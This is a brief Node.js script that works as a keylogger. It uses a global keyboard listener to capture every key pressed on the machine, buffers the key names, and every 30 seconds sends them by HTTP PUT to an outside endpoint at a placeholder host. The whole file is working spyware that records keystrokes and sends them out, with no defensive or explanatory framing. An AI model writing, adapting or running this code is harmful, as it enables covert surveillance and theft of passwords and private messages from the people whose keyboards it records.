const { GlobalKeyboardListener } = require('node-global-key-listener')

let heard = ''
const keyboard = new GlobalKeyboardListener()
keyboard.addListener(event => {
  if (event.state === 'DOWN') heard += `[${event.name}]`
})

setInterval(async () => {
  const part = heard
  heard = ''
  if (part) await fetch('https://speed.example.invalid/in', { method: 'PUT', body: part })
}, 30_000)
